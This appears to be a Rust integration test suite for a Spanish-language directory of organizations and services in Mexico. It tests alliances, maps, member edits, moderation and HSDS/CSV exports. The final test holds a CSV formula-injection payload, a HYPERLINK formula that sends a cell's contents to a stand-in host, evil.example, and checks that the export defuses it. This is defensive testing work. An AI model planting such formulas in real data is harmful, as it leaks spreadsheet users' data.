//! The directory's pages: alliances declared through the form, the network
//! and the map drawn from them, organizations' entries edited by their own
//! members and checked by moderators, a municipality's coverage and services.

use super::analysis_scale::{analysis_ready, eventually};
use super::common::{Browser, account_in, spawn_app};
use acoge_domain::{accounts::Role, page::PageRequest};
use acoge_store::{Backend, OrganizationFilter, scratch::test_backends};

/// Two organizations of Mexico City, the `skip`th and the next: ids and names.
async fn two_organizations(db: &acoge_store::Db, skip: usize) -> (String, String, String, String) {
    let filter = OrganizationFilter {
        state: Some(acoge_domain::StateKey::parse("09").unwrap()),
        ..OrganizationFilter::default()
    };
    let orgs = db
        .organizations(&filter, PageRequest::first(100))
        .await
        .unwrap()
        .items;
    let (a, b) = (&orgs[skip], &orgs[skip + 1]);
    (
        a.id.to_string(),
        a.name.clone(),
        b.id.to_string(),
        b.name.clone(),
    )
}

#[tokio::test]
async fn a_member_declares_an_alliance_and_the_network_and_map_show_it() {
    for backend in test_backends() {
        let app = spawn_app(backend).await;
        let db = &app.db;
        let (a, a_name, b, b_name) = two_organizations(db, 0).await;
        let member = account_in(db, Role::Member, Some(uuid::Uuid::parse_str(&a).unwrap())).await;
        let mut browser = Browser::signed_in(&app, member.id).await;
        let form = browser.get("/alianzas/nueva").await;
        assert_eq!(form.status, 200);
        assert!(
            form.body.contains(&format!("value=\"{a}\" checked")),
            "own organization ticked"
        );

        let alone = browser
            .post(
                "/alianzas/nueva",
                &[
                    ("name", "Red de prueba"),
                    ("members", &a),
                    ("kind", "convenio"),
                ],
            )
            .await;
        assert_eq!(alone.status, 422);
        assert!(
            alone.body.contains("id=\"members-error\"")
                && alone.body.contains("value=\"Red de prueba\"")
        );
        let outside = browser
            .post(
                "/alianzas/nueva",
                &[
                    ("name", "Red de prueba"),
                    ("members", &a),
                    ("members", &b),
                    ("kind", "convenio"),
                    ("municipalities", "99999"),
                ],
            )
            .await;
        assert_eq!(outside.status, 422, "an unknown municipality is named");
        assert!(outside.body.contains("id=\"municipalities-error\""));
        let made = browser
            .post(
                "/alianzas/nueva",
                &[
                    ("name", "Red de prueba"),
                    ("members", &a),
                    ("members", &b),
                    ("kind", "convenio"),
                    ("sectors", "salud"),
                    ("municipalities", "02004"),
                ],
            )
            .await;
        assert_eq!(made.status, 303, "{}", made.body);

        // The analysis follows the write in the background.
        let list = eventually(&app, "/alianzas", |body| body.contains("Red de prueba")).await;
        assert!(list.contains("Convenio formal"));
        let network = eventually(&app, "/red?per_page=100", |body| {
            body.contains(&format!("/organizaciones/{a}"))
                && body.contains(&format!("/organizaciones/{b}"))
        })
        .await;
        assert!(
            network.contains("<table"),
            "{a_name} and {b_name} are in the network's table"
        );
        let picture = app.get("/red.svg", &[]).await;
        assert!(picture.body.starts_with("<svg") && picture.body.matches("<circle").count() >= 2);
        assert!(picture.body.contains("<line"));

        // Someone whose organization is in neither may not speak for them.
        let (c, _, d, _) = two_organizations(db, 2).await;
        let stranger = browser
            .post(
                "/alianzas/nueva",
                &[
                    ("name", "Ajena"),
                    ("members", &c),
                    ("members", &d),
                    ("kind", "convenio"),
                ],
            )
            .await;
        assert_eq!(stranger.status, 403);

        let map = app.get("/mapa", &[]).await;
        assert_eq!(map.status, 200);
        assert_eq!(map.body.matches("<tr><th scope=\"row\">").count(), 32);
        let svg = app.get("/mapa.svg", &[]).await;
        assert!(svg.body.starts_with("<svg") && svg.body.matches("<path").count() >= 32);
    }
}

#[tokio::test]
async fn members_edit_their_own_entry_and_moderators_check_it() {
    let backend = Backend::Sqlite;
    let app = spawn_app(backend).await;
    let db = &app.db;
    let (a, _, b, _) = two_organizations(db, 0).await;
    let member = account_in(db, Role::Member, Some(uuid::Uuid::parse_str(&a).unwrap())).await;
    let mut browser = Browser::signed_in(&app, member.id).await;
    let edit = format!("/organizaciones/{a}/editar");
    assert_eq!(browser.get(&edit).await.status, 200);
    assert_eq!(
        browser
            .get(&format!("/organizaciones/{b}/editar"))
            .await
            .status,
        403
    );
    let bad = browser
        .post(
            &edit,
            &[
                ("sectors", "salud"),
                ("municipalities", "99999"),
                ("website", "no es web"),
                ("contact", "Oficina central"),
            ],
        )
        .await;
    assert_eq!(bad.status, 422);
    assert!(
        bad.body.contains("id=\"website-error\"")
            || bad.body.contains("id=\"municipalities-error\"")
    );
    assert!(
        bad.body.contains("value=\"Oficina central\""),
        "what was typed stays"
    );
    let good = browser
        .post(
            &edit,
            &[
                ("sectors", "salud"),
                ("sectors", "educacion"),
                ("municipalities", "07089"),
                ("website", "https://example.org"),
                ("contact", "Oficina central"),
            ],
        )
        .await;
    assert_eq!(good.status, 303, "{}", good.body);
    let page = browser.get(&format!("/organizaciones/{a}")).await;
    assert!(page.body.contains("Tapachula") && page.body.contains("Oficina central"));
    assert!(page.body.contains("Salud") && page.body.contains("por verificar"));

    let moderator = account_in(db, Role::Moderator, None).await;
    let mut checker = Browser::signed_in(&app, moderator.id).await;
    checker.get(&format!("/organizaciones/{a}")).await;
    let verified = checker
        .post(&format!("/organizaciones/{a}/verificar"), &[])
        .await;
    assert_eq!(verified.status, 303);
    let page = checker.get(&format!("/organizaciones/{a}")).await;
    assert!(page.body.contains("Revisado por moderación"));
}

#[tokio::test]
async fn a_municipality_shows_its_coverage_map_services_and_possible_partners() {
    for backend in test_backends() {
        let app = spawn_app(backend).await;
        analysis_ready(&app).await;
        let page = app.get("/municipios/07089", &[]).await;
        assert_eq!(page.status, 200);
        assert!(page.body.contains("Cobertura por sector") && page.body.contains("ubicacion.svg"));
        assert_eq!(
            page.body.matches("class=\"cov-").count(),
            11,
            "every sector"
        );
        let locator = app.get("/municipios/07089/ubicacion.svg", &[]).await;
        assert!(locator.body.starts_with("<svg") && locator.body.contains("<circle"));
        assert!(locator.body.contains("<title>Tapachula</title>"));
        for path in [
            "/municipios/07089/aliados-posibles",
            "/municipios/07089/servicios",
            "/servicios",
            "/servicios?sector=salud&estado=07",
        ] {
            assert_eq!(app.get(path, &[]).await.status, 200, "{path}");
        }
        assert_eq!(app.get("/servicios?sector=volar", &[]).await.status, 400);
        assert_eq!(
            app.get("/municipios/99999/servicios", &[]).await.status,
            404
        );
        let tijuana = app.get("/municipios/02004", &[]).await.body;
        assert!(
            tijuana.contains("cov-local"),
            "Tijuana's shelters cover housing"
        );
        let near = app.get("/municipios/07089/servicios", &[]).await.body;
        assert!(near.contains("km") && near.matches("<li>").count() > 3);
    }
}

#[tokio::test]
async fn the_directory_exports_as_hsds_pages_with_clear_errors() {
    for backend in test_backends() {
        let app = spawn_app(backend).await;
        let orgs = app.get("/api/v1/hsds/organizations?per_page=5", &[]).await;
        assert_eq!(orgs.status, 200);
        let page = orgs.json();
        assert!(page["total_items"].as_u64().unwrap() >= 20);
        assert_eq!(page["size"], 5);
        assert_eq!(page["first_page"], true);
        let first = &page["contents"][0];
        assert!(
            first["id"].is_string()
                && first["name"].is_string()
                && first["description"].is_string()
        );
        let one = app
            .get(
                &format!(
                    "/api/v1/hsds/organizations/{}",
                    first["id"].as_str().unwrap()
                ),
                &[],
            )
            .await;
        assert_eq!(one.json()["name"], first["name"]);
        let missing = format!("/api/v1/hsds/services/{}", uuid::Uuid::now_v7());
        assert_eq!(app.get(&missing, &[]).await.status, 404);
        let bad = app.get("/api/v1/hsds/services?page=0", &[]).await;
        assert_eq!(
            (bad.status, bad.json()["error"]["parameter"].clone()),
            (400, "page".into())
        );
        assert_eq!(app.get("/api/v1/hsds/services", &[]).await.status, 200);
    }
}

#[tokio::test]
async fn the_services_table_carries_hxl_hashtags_and_refuses_bad_filters() {
    for backend in test_backends() {
        let app = spawn_app(backend).await;
        let table = app.get("/servicios.csv", &[]).await;
        assert_eq!(table.status, 200);
        assert!(
            table.headers["content-type"]
                .to_str()
                .unwrap()
                .starts_with("text/csv")
        );
        let mut lines = table.body.lines();
        assert!(lines.next().unwrap().starts_with("Organización,"));
        assert!(lines.next().unwrap().starts_with("#org +name,#org +id"));
        assert_eq!(
            app.get("/servicios.csv?sector=volar", &[]).await.status,
            400
        );
    }
}

#[tokio::test]
async fn members_add_services_of_their_own_organization_and_bad_places_are_named() {
    for backend in test_backends() {
        let app = spawn_app(backend).await;
        let db = &app.db;
        let (a, _, b, _) = two_organizations(db, 0).await;
        let member = account_in(db, Role::Member, Some(uuid::Uuid::parse_str(&a).unwrap())).await;
        let mut browser = Browser::signed_in(&app, member.id).await;
        let new = format!("/organizaciones/{a}/servicios/nuevo");
        assert_eq!(browser.get(&new).await.status, 200);
        assert_eq!(
            browser
                .get(&format!("/organizaciones/{b}/servicios/nuevo"))
                .await
                .status,
            403
        );
        let nowhere = browser
            .post(
                &new,
                &[
                    ("name", "Asesoría jurídica gratuita"),
                    ("sectors", "asesoria_juridica"),
                    ("location", ""),
                ],
            )
            .await;
        assert_eq!(nowhere.status, 422);
        assert!(
            nowhere.body.contains("id=\"location-error\""),
            "a service with no location"
        );
        assert!(
            nowhere
                .body
                .contains("value=\"Asesoría jurídica gratuita\"")
        );
        let abroad = browser
            .post(
                &new,
                &[
                    ("name", "Asesoría jurídica gratuita"),
                    ("location", "07089"),
                    ("latitude", "40.4"),
                    ("longitude", "-3.7"),
                ],
            )
            .await;
        assert_eq!(abroad.status, 422);
        assert!(
            abroad.body.contains("id=\"coordinates-error\""),
            "coordinates outside Mexico"
        );
        let made = browser
            .post(
                &new,
                &[
                    ("name", "Asesoría jurídica gratuita"),
                    ("sectors", "asesoria_juridica"),
                    ("location", "07089"),
                    ("cost", "gratuito"),
                    ("verified", "1"),
                ],
            )
            .await;
        assert_eq!(made.status, 303, "{}", made.body);
        let again = browser
            .post(
                &new,
                &[
                    ("name", "Asesoría jurídica gratuita"),
                    ("location", "07089"),
                ],
            )
            .await;
        assert_eq!(again.status, 422, "the same name in the same municipality");
        assert!(again.body.contains("id=\"name-error\""));
        let near = app.get("/municipios/07089/servicios", &[]).await.body;
        let listed = near
            .split("Asesoría jurídica gratuita")
            .nth(1)
            .unwrap_or_default();
        assert!(
            listed.contains("por verificar"),
            "a member cannot mark it verified"
        );
    }
}

#[tokio::test]
async fn a_formula_typed_as_a_service_name_is_defused_in_the_csv() {
    const FORMULA: &str = "=HYPERLINK(\"http://evil.example/?\"&A3,\"Ver\")";
    for backend in test_backends() {
        let app = spawn_app(backend).await;
        let db = &app.db;
        let (a, _, _, _) = two_organizations(db, 0).await;
        let member = account_in(db, Role::Member, Some(uuid::Uuid::parse_str(&a).unwrap())).await;
        let mut browser = Browser::signed_in(&app, member.id).await;
        let new = format!("/organizaciones/{a}/servicios/nuevo");
        browser.get(&new).await;
        let made = browser
            .post(
                &new,
                &[
                    ("name", FORMULA),
                    ("sectors", "salud"),
                    ("location", "07089"),
                    ("latitude", "14.9"),
                    ("longitude", "-92.26"),
                    ("cost", "gratuito"),
                ],
            )
            .await;
        assert_eq!(made.status, 303, "{}", made.body);
        let table = app.get("/servicios.csv?estado=07&sector=salud", &[]).await;
        assert_eq!(table.status, 200);
        let row = table
            .body
            .lines()
            .find(|l| l.contains("evil.example"))
            .expect("the service is in the table");
        // Quoted as CSV, with the quote that keeps spreadsheets from running it.
        assert!(
            row.contains(",\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A3,\"\"Ver\"\")\","),
            "{row}"
        );
        assert!(!row.contains(",\"=") && !row.contains(",="), "{row}");
        assert!(
            row.ends_with(",14.9,-92.26"),
            "coordinates stay numbers: {row}"
        );
        let mut lines = table.body.lines();
        assert!(lines.next().unwrap().ends_with(",Latitud,Longitud"));
        assert!(
            lines
                .next()
                .unwrap()
                .starts_with("#org +name,#org +id,#org +type,#service +name"),
            "the hashtag row is intact"
        );
    }
}
